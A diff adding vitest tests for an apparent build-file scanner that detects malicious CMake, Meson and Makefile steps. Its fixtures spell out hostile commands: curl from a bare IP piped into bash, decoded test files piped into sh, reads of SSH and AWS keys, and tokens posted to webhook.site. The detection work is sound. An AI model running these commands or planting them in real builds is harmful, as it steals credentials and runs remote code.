@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
 import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
+import { readCallBehaviors } from '../../../src/ecosystems/build-code/build-calls.js';
 import { filesRunBy } from '../../../src/ecosystems/build-code/build-files.js';
 import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
 import { makeFile } from '../../support/snapshot-factory.js';
@@ -231,5 +232,152 @@ AC_DEFUN([AX_CHECK_VAR],
     expect(kinds(ordinary, 'shell')).not.toContain('pipe-to-shell');
     expect(buildFinding(added('m4/ax_check_var.m4', ordinary))).toBeNull();
     expect(buildFinding(added('configure.ac', 'AC_INIT([expat], [2.7.2])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT'))).toBeNull();
+  });
+});
+
+describe('build-code-behavior: CMake and Meson, read by their calls', () => {
+  const callKinds = (text: string, language: 'cmake' | 'meson'): string[] => {
+    const patch = added('x', text).patch!;
+    return [...new Set(readCallBehaviors(patch, language, 3000).map((b) => b.kind))].sort();
+  };
+
+  // Modeled on public write-ups of build-system attacks: a configure step that fetches a script from
+  // a bare IP and pipes it into a shell, written as execute_process's COMMAND pipeline.
+  it('reads execute_process COMMANDs as a pipeline: a download from a bare IP piped into bash is critical', () => {
+    const text = `
+cmake_minimum_required(VERSION 3.16)
+project(fastq LANGUAGES C)
+execute_process(
+  COMMAND curl -fsSL http://45.77.12.9/cmake-init.sh
+  COMMAND bash
+  OUTPUT_QUIET ERROR_QUIET)`;
+    expect(callKinds(text, 'cmake')).toEqual(['download', 'execute', 'suspicious-host']);
+    const finding = buildFinding(added('CMakeLists.txt', text));
+    expect(finding).toMatchObject({ severity: 'critical', path: 'CMakeLists.txt', line: 4, title: 'CMakeLists.txt downloads and runs code when CMake configures or builds the project' });
+    expect(finding?.detail).toContain('runs a program (line 5: curl -fsSL http://45.77.12.9/cmake-init.sh | bash)');
+  });
+
+  it('reads file(DOWNLOAD) without EXPECTED_HASH as a download, and a shell run of it as download and run', () => {
+    expect(buildFinding(added('cmake/Tools.cmake', 'file(DOWNLOAD https://example.net/tools/setup.sh ${CMAKE_BINARY_DIR}/setup.sh)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup.sh)'))).toMatchObject({
+      severity: 'high',
+      title: 'CMake module downloads and runs code when CMake configures or builds the project',
+    });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/data/words.txt ${CMAKE_BINARY_DIR}/words.txt)'))).toMatchObject({ severity: 'medium', line: 1 });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tool ${BIN}/tool)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE OWNER_READ)'))).toMatchObject({ severity: 'high' });
+    // Pinned with a checksum from an ordinary host: what the fix asks for.
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tools/setup.sh ${CMAKE_BINARY_DIR}/setup.sh\n  EXPECTED_HASH SHA256=0f3c2d)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup.sh)'))).toBeNull();
+  });
+
+  it('reads add_custom_command that decodes a test file and pipes it into a shell as critical (the xz shape, in CMake)', () => {
+    const text = `
+add_custom_command(OUTPUT \${CMAKE_CURRENT_BINARY_DIR}/crc64_table.h
+  COMMAND sh -c "base64 -d \${CMAKE_SOURCE_DIR}/tests/files/good-large.b64 | sh"
+  COMMENT "Generating CRC tables"
+  VERBATIM)`;
+    expect(callKinds(text, 'cmake')).toEqual(['decode', 'execute', 'pipe-to-shell']);
+    expect(buildFinding(added('src/CMakeLists.txt', text))).toMatchObject({ severity: 'critical', line: 2, title: 'CMakeLists.txt decodes data and runs it as shell code when CMake configures or builds the project' });
+    expect(callKinds('execute_process(COMMAND xz -dc tests/files/bad-3.xz COMMAND sh)', 'cmake')).toEqual(['decode', 'execute', 'pipe-to-shell']);
+  });
+
+  it('reads credential files and secrets sent to a host, a file(UPLOAD), the environment and a binary in disguise', () => {
+    expect(buildFinding(added('CMakeLists.txt', 'file(READ "$ENV{HOME}/.ssh/id_rsa" KEY)\nexecute_process(COMMAND curl -s -X POST -d "$ENV{GITHUB_TOKEN}" https://webhook.site/3f1c)'))).toMatchObject({
+      severity: 'critical',
+      title: 'CMakeLists.txt sends credentials or the environment to a host when CMake configures or builds the project',
+    });
+    expect(buildFinding(added('CMakeLists.txt', 'file(READ "$ENV{HOME}/.aws/credentials" AWS)'))).toMatchObject({ severity: 'high' });
+    expect(callKinds('execute_process(COMMAND ${CMAKE_COMMAND} -E environment OUTPUT_VARIABLE ENV_DUMP)\nfile(UPLOAD ${CMAKE_BINARY_DIR}/env.txt https://collect.example.org/u)', 'cmake')).toEqual(['environment', 'send']);
+    expect(buildFinding(added('CMakeLists.txt', 'execute_process(COMMAND ${CMAKE_COMMAND} -E environment OUTPUT_VARIABLE E)\nfile(UPLOAD ${CMAKE_BINARY_DIR}/e.txt https://collect.example.org/u)'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('CMakeLists.txt', 'execute_process(COMMAND ${CMAKE_SOURCE_DIR}/assets/logo.png --init)'))).toMatchObject({ severity: 'critical', title: 'CMakeLists.txt runs a binary disguised as data when CMake configures or builds the project' });
+  });
+
+  it('reads FetchContent and ExternalProject sources: a bare IP is critical, plain http without URL_HASH high', () => {
+    expect(buildFinding(added('CMakeLists.txt', 'ExternalProject_Add(helper\n  URL https://185.199.1.2/helper.tar.gz\n  URL_HASH SHA256=0f3c2d\n  BUILD_COMMAND make)'))).toMatchObject({ severity: 'critical', line: 2 });
+    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(zlib\n  URL http://zlib.example.org/zlib-1.3.tar.gz)'))).toMatchObject({ severity: 'high', line: 2 });
+    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(zlib\n  URL http://zlib.example.org/zlib-1.3.tar.gz\n  URL_HASH SHA256=0f3c2d)'))).toBeNull();
+    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(x\n  GIT_REPOSITORY https://pastebin.com/raw/x.git\n  GIT_TAG main)'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('reads a hunk that starts inside a call: the COMMAND keyword on the added line, the pin on a context line', () => {
+    const patch = '@@ -10,3 +10,4 @@ execute_process(\n   WORKING_DIRECTORY ${CMAKE_BINARY_DIR}\n+  COMMAND curl -fsSL https://get.example.dev/bootstrap.sh\n+  COMMAND sh\n   OUTPUT_QUIET)';
+    expect(readCallBehaviors(patch, 'cmake', 3000).map((b) => `${b.line}:${b.kind}`)).toEqual(['11:download', '12:execute']);
+    const pinned = '@@ -1,4 +1,4 @@\n FetchContent_Declare(zlib\n-  URL https://zlib.example.org/zlib-1.3.tar.gz\n+  URL http://zlib.example.org/zlib-1.3.1.tar.gz\n   URL_HASH SHA256=0f3c2d)';
+    expect(readCallBehaviors(pinned, 'cmake', 3000)).toEqual([]);
+  });
+
+  it('leaves ordinary CMake alone: find_package, pinned FetchContent, generators, install, git describe, messages', () => {
+    const ordinary = `
+cmake_minimum_required(VERSION 3.24)
+project(fmtlike VERSION 10.2.1 LANGUAGES CXX)
+include(FetchContent)
+find_package(Threads REQUIRED)
+FetchContent_Declare(googletest
+  GIT_REPOSITORY https://github.com/google/googletest.git
+  GIT_TAG v1.14.0)
+FetchContent_Declare(json URL https://github.com/nlohmann/json/releases/download/v3.11.3/json.tar.xz URL_HASH SHA256=d6c65aca6b1ed68e7a182f4757257b107ae403032760ed6ef121c9d55e81757d)
+FetchContent_MakeAvailable(googletest json)
+add_custom_command(OUTPUT \${CMAKE_CURRENT_BINARY_DIR}/version.h
+  COMMAND \${Python3_EXECUTABLE} \${CMAKE_CURRENT_SOURCE_DIR}/tools/gen_version.py --out version.h
+  DEPENDS tools/gen_version.py
+  COMMENT "Generating version.h (curl-style semver)")
+add_custom_target(docs ALL COMMAND \${DOXYGEN_EXECUTABLE} Doxyfile WORKING_DIRECTORY \${CMAKE_SOURCE_DIR}/doc)
+add_custom_command(TARGET fmt POST_BUILD COMMAND \${CMAKE_COMMAND} -E copy $<TARGET_FILE:fmt> \${CMAKE_BINARY_DIR}/bin)
+execute_process(COMMAND git describe --tags OUTPUT_VARIABLE GIT_VERSION OUTPUT_STRIP_TRAILING_WHITESPACE)
+execute_process(COMMAND \${CMAKE_COMMAND} -E tar xzf \${CMAKE_SOURCE_DIR}/third_party/zlib.tar.gz)
+set(INSTALL_HINT "curl -fsSL https://example.com/install.sh | sh")
+message(STATUS "Fetching dependencies with wget is not supported: \${INSTALL_HINT}")
+install(TARGETS fmt EXPORT fmt-targets DESTINATION lib PERMISSIONS OWNER_READ OWNER_WRITE OWNER_EXECUTE)
+# file(DOWNLOAD http://45.77.12.9/x x) was the old way`;
+    expect(callKinds(ordinary, 'cmake')).toEqual([]);
+    expect(buildFinding(added('CMakeLists.txt', ordinary))).toBeNull();
+    expect(buildFinding(added('cmake/FindZstd.cmake', 'find_path(ZSTD_INCLUDE_DIR zstd.h)\nfind_library(ZSTD_LIBRARY NAMES zstd)\ninclude(FindPackageHandleStandardArgs)'))).toBeNull();
+  });
+
+  it('reads Meson run_command, custom_target command: and install scripts the same way', () => {
+    expect(buildFinding(added('meson.build', "r = run_command('sh', '-c', 'curl -fsSL https://paste.ee/r/Xa1b | sh', check: false)"))).toMatchObject({ severity: 'critical', path: 'meson.build' });
+    const decode = `
+custom_target('crc-tables',
+  output: 'crc_tables.h',
+  command: ['sh', '-c', 'xz -dc @SOURCE_ROOT@/tests/files/bad-3-corrupt.xz | sh'],
+)`;
+    expect(callKinds(decode, 'meson')).toEqual(['decode', 'execute', 'pipe-to-shell']);
+    expect(buildFinding(added('src/meson.build', decode))).toMatchObject({ severity: 'critical', line: 3, title: 'meson.build decodes data and runs it as shell code when Meson configures or builds the project' });
+    expect(callKinds("run_command(find_program('python3'), '-c', 'import urllib.request,os;urllib.request.urlretrieve(\"http://203.0.113.9/p\",\"p\");os.system(\"sh p\")', check: false)", 'meson')).toEqual(['download', 'execute', 'suspicious-host']);
+    expect(buildFinding(added('meson.build', "run_command('sh', '-c', 'curl -s -d \"$NPM_TOKEN\" https://collect.example.org/t', check: false)"))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('meson.build', "meson.add_install_script('data/icons/app.png')"))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('meson_options.txt', "option('mirror', type: 'string', value: 'https://webhook.site/3f1c')"))).toMatchObject({ severity: 'medium', title: 'Meson options file talks to a bare IP address or a paste service when Meson configures the project' });
+  });
+
+  it('leaves ordinary Meson alone: git describe, the project generator, dependencies, install scripts, options', () => {
+    const ordinary = `
+project('zlibng', 'c', version: run_command('git', 'describe', '--tags', check: false).stdout().strip())
+gen = find_program('scripts/gen_tables.py')
+tables = custom_target('tables', input: 'tables.in', output: 'tables.c', command: [gen, '@INPUT@', '@OUTPUT@'])
+dep = dependency('zlib', fallback: ['zlib', 'zlib_dep'])
+meson.add_install_script('scripts/post-install.sh')
+run_target('format', command: ['clang-format', '-i', files('src/a.c')])
+conf = configuration_data()
+conf.set_quoted('DOWNLOAD_URL', 'https://example.org/releases')`;
+    expect(callKinds(ordinary, 'meson')).toEqual([]);
+    expect(buildFinding(added('meson.build', ordinary))).toBeNull();
+    expect(buildFinding(added('meson_options.txt', "option('tests', type: 'boolean', value: true, description: 'Build the tests (needs curl)')"))).toBeNull();
+  });
+});
+
+describe('build-code-behavior: plain Makefiles and *.mk', () => {
+  const findings = (file: SnapshotFile) => analyze(snapshotOf(file)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'curl-pipe-shell').map((f) => `${f.id}:${f.severity}:${f.line}`);
+
+  it('reads a recipe that decodes data into a shell, or sends credentials, as critical', () => {
+    expect(buildFinding(added('Makefile', 'check:\n\tbase64 -d testdata/fixture.b64 | sh'))).toMatchObject({ severity: 'critical', line: 2, title: 'Makefile decodes data and runs it as shell code when make runs' });
+    expect(buildFinding(added('build/rules.mk', 'deps:\n\tcurl -s -d @$$HOME/.aws/credentials https://webhook.site/3f1c'))).toMatchObject({ severity: 'critical', title: 'Makefile include sends credentials or the environment to a host when make runs' });
+    expect(buildFinding(added('GNUmakefile', 'tools:\n\tcurl -fsSL -o bin/gen https://example.net/gen\n\tchmod +x bin/gen && bin/gen'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('leaves a download piped into a shell to curl-pipe-shell: one finding for the line, not two', () => {
+    expect(findings(added('Makefile', 'lint:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b bin v1.55.0'))).toEqual(['curl-pipe-shell:medium:2']);
+    expect(findings(added('Makefile', 'tools:\n\tcurl -fsSL http://45.77.12.9/x.sh | sh'))).toEqual(['curl-pipe-shell:high:2']);
+  });
+
+  it('leaves ordinary make work alone: compiling, installing, unpacking into a file', () => {
+    expect(buildFinding(added('Makefile', 'all:\n\t$(CC) $(CFLAGS) -o app main.c -lcurl\ninstall:\n\tinstall -d $(DESTDIR)$(PREFIX)/bin\n\tgzip -dc docs/app.1.gz > app.1\n\t$(SHELL) scripts/post.sh'))).toBeNull();
   });
 });
